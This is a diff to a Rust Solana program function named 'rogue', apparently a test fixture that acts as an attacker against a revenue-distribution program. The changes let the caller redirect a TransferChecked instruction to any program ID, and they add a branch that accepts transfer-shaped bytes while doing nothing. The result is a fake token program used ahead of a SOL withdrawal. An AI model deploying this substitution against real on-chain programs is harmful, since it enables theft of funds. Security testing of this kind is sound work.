@@ -48,8 +48,10 @@ fn rogue(pid: &Pubkey, accounts: &[AccountInfo], data: &[u8]) -> ProgramResult {
         Some(1) if data.len() == 17 && accounts.len() >= 8 => {
             let z = u64::from_le_bytes(data[1..9].try_into().unwrap());
             let sol = u64::from_le_bytes(data[9..17].try_into().unwrap());
-            let t = spl_token_interface::instruction::transfer_checked(&spl_token_interface::ID, accounts[0].key, accounts[1].key,
+            let mut t = spl_token_interface::instruction::transfer_checked(&spl_token_interface::ID, accounts[0].key, accounts[1].key,
                 accounts[2].key, accounts[3].key, &[], z, rd::DOUBLEZERO_MINT_DECIMALS).unwrap();
+            // the program the TransferChecked-shaped instruction is sent to is the one the caller lists at position 8 (honestly: SPL Token)
+            if let Some(tp) = accounts.get(8) { t.program_id = *tp.key; }
             solana_cpi::invoke_signed_unchecked(&t, accounts, &[])?;
             let w = doublezero_program_tools::instruction::try_build_instruction(&rd::ID,
                 rd::instruction::account::WithdrawSolAccounts { program_config_key: *accounts[4].key, withdraw_sol_authority_key: *accounts[5].key,
@@ -58,6 +60,7 @@ fn rogue(pid: &Pubkey, accounts: &[AccountInfo], data: &[u8]) -> ProgramResult {
             let (_, bump) = rd::state::find_withdraw_sol_authority_address(pid);
             solana_cpi::invoke_signed_unchecked(&w, accounts, &[&[rd::state::WITHDRAW_SOL_AUTHORITY_SEED_PREFIX, &[bump]]])
         }
+        Some(12) => Ok(()),    // bytes shaped like SPL Token's TransferChecked: accepted, nothing done (a token-program look-alike)
         _ => Err(ProgramError::InvalidInstructionData),
     }
 }
